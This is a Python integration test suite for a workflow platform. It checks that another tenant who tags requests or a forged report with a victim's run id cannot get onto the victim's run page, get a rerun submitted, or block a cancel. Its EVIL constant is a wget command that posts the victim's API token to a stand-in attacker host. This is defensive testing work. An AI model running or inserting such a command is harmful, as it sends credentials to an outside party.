"""A run's pages, attacked by another tenant on a real cluster (SQLite and PostgreSQL). A run is the
container requests tagged with its id, and anyone who has seen the id (a step shared with her, a
shared project) can tag a request of her own with it and let the victim read it. Mallory plants a
"runner" that would send the victim's token out, and a step: the victim's run page must not show
them, "Run again" must not submit Mallory's command as the victim, and cancelling must still stop
the victim's own steps. A run from a terminal shows the report its runner kept at home, never one
Mallory tagged with its id."""

from __future__ import annotations

from typing import Any

import pytest

from archipelago.cwl.tags import RUN, STEP, WORKFLOW, new_run_id
from archipelago.sdk import ApiClient
from tests.support.clusters import new_user
from tests.support.web import WebClient

pytestmark = pytest.mark.integration
EVIL = ["sh", "-c", "wget -q -O- --post-data=\"$ARVADOS_API_TOKEN\" https://mallory.example/"]


def request(client: ApiClient, properties: dict[str, Any], command: list[str], owner: str | None = None,
            api: bool = False) -> dict[str, Any]:
    """A committed request that runs nothing (priority 0), tagged as a run's."""
    attrs: dict[str, Any] = {"name": properties.get(STEP, "runner"), "command": command, "container_image": None,
                             "output_path": "/out", "cwd": "/out", "priority": 0, "properties": properties,
                             "mounts": {"/out": {"kind": "tmp", "capacity": 1 << 20}}, "state": "Committed",
                             "runtime_constraints": {"ram": 64 << 20, "vcpus": 1, "API": api}}
    if owner:
        attrs["owner_uuid"] = owner
    return client.container_requests.create(attrs)


@pytest.fixture(scope="module")
def planted(cluster: Any) -> dict[str, Any]:
    admin = ApiClient(cluster.api_url, cluster.admin_token, insecure=True)
    alice, mallory = new_user(admin, "alice"), new_user(admin, "mallory")
    alice_uuid = alice.users.current()["uuid"]
    run_id = new_run_id("z1111")
    own = request(alice, {RUN: run_id, STEP: "count", WORKFLOW: "count.cwl"}, ["wc", "-l"])
    trap = mallory.groups.create({"name": "shared with alice", "group_class": "project"})
    mallory.links.create({"link_class": "permission", "name": "can_write", "tail_uuid": alice_uuid,
                          "head_uuid": trap["uuid"]})  # so that a copy of her runner could be made there by alice
    runner = request(mallory, {RUN: run_id, "type": "archi-run", WORKFLOW: "count.cwl"}, EVIL, trap["uuid"], api=True)
    shown = mallory.groups.create({"name": "readable by alice", "group_class": "project"})
    mallory.links.create({"link_class": "permission", "name": "can_read", "tail_uuid": alice_uuid,
                          "head_uuid": shown["uuid"]})
    step = request(mallory, {RUN: run_id, STEP: "count (final)"}, ["true"], shown["uuid"])
    mallory.container_requests.update(step["uuid"], {"priority": 1})  # live: a cancel would try to stop it
    web = WebClient(cluster.api_url)
    assert web.login(alice.token).status == 303
    return {"alice": alice, "alice_uuid": alice_uuid, "web": web, "run": run_id, "own": own,
            "planted": [runner["uuid"], step["uuid"]]}


def test_a_request_another_tenant_tagged_with_my_run_id_is_not_part_of_my_run(planted: dict) -> None:
    web, run_id = planted["web"], planted["run"]
    for path in (f"/runs/{run_id}", f"/runs/{run_id}?part=body", "/runs"):
        page = web.get(path)
        assert page.status == 200
        assert not any(uuid in page.text for uuid in planted["planted"]), path
    assert planted["own"]["uuid"] in web.get(f"/runs/{run_id}").text
    for uuid in planted["planted"]:
        assert web.get(f"/runs/{run_id}/steps/{uuid}").status == 404


def test_run_again_never_submits_another_tenants_command_as_me(planted: dict) -> None:
    web, alice = planted["web"], planted["alice"]
    answer = web.post(f"/runs/{planted['run']}/rerun", {"csrf": web.csrf()})
    assert answer.status == 422 and "terminal" in answer.text  # a run with no runner of its own
    mine = alice.container_requests.list(filters=[["runtime_user_uuid", "=", planted["alice_uuid"]]],
                                         limit=1000)["items"]
    assert mine and not [r for r in mine if r["command"] == EVIL]  # before: queued, as alice, with API access


def test_cancelling_my_run_stops_my_steps_whatever_was_planted(planted: dict) -> None:
    web, alice = planted["web"], planted["alice"]
    alice.container_requests.update(planted["own"]["uuid"], {"priority": 1})
    answer = web.post(f"/runs/{planted['run']}/cancel", {"csrf": web.csrf()})
    assert answer.status == 303
    assert alice.container_requests.get(planted["own"]["uuid"])["priority"] == 0


def report_of(label: str, cluster: str) -> dict[str, Any]:
    """A run's report as cwl/report.py keeps it (the parts the run page shows)."""
    return {"status": "success", "plan": {"seconds": 0.1, "steps": [
        {"label": label, "key": label, "cluster": cluster, "why": "arv:ClusterTarget", "ran_on": cluster,
         "status": "success", "reused": False}]},
        "crossings": [{"from": "z1111", "to": cluster, "at_least": 10, "at_most": 20, "keepstores": 15,
                       "containers": 15, "why": ["the scripts"]}]}


def test_a_terminal_runs_report_is_shown_and_never_one_another_tenant_tagged_with_its_id(
        planted: dict, cluster: Any) -> None:
    from archipelago.cwl.report import KeptReport
    from archipelago.cwl.tags import REPORT, REPORT_TYPE
    from archipelago.sdk import Collection

    web, run_id = planted["web"], planted["run"]
    body = web.get(f"/runs/{run_id}?part=body").text
    assert 'id="plan-steps"' not in body and "none is kept yet" in body
    kept = KeptReport(planted["alice"], run_id, "count.cwl")
    kept.start({"status": "running", "plan": report_of("count-planned", "z1111")["plan"], "crossings": []})
    kept.end(report_of("count-ended", "z1111"))
    admin = ApiClient(cluster.api_url, cluster.admin_token, insecure=True)
    mallory = new_user(admin, "mallory2")  # a report in a project alice reads, tagged with her run id
    shown = mallory.groups.create({"name": "reports for alice", "group_class": "project"})
    mallory.links.create({"link_class": "permission", "name": "can_read", "tail_uuid": planted["alice_uuid"],
                          "head_uuid": shown["uuid"]})
    forged = Collection(mallory)
    forged.write(REPORT, b'{"status": "success", "plan": {"seconds": 0, "steps": [{"label": "FORGED"}]}}')
    forged.save_new("report", owner_uuid=shown["uuid"], properties={RUN: run_id, "type": REPORT_TYPE})
    for path in (f"/runs/{run_id}", f"/runs/{run_id}?part=body"):
        page = web.get(path).text
        assert 'id="plan-steps"' in page and "count-ended" in page and "count-planned" not in page, path
        assert 'id="plan-crossings"' in page and "the scripts" in page  # what crossed, beside the plan
        assert "FORGED" not in page, path
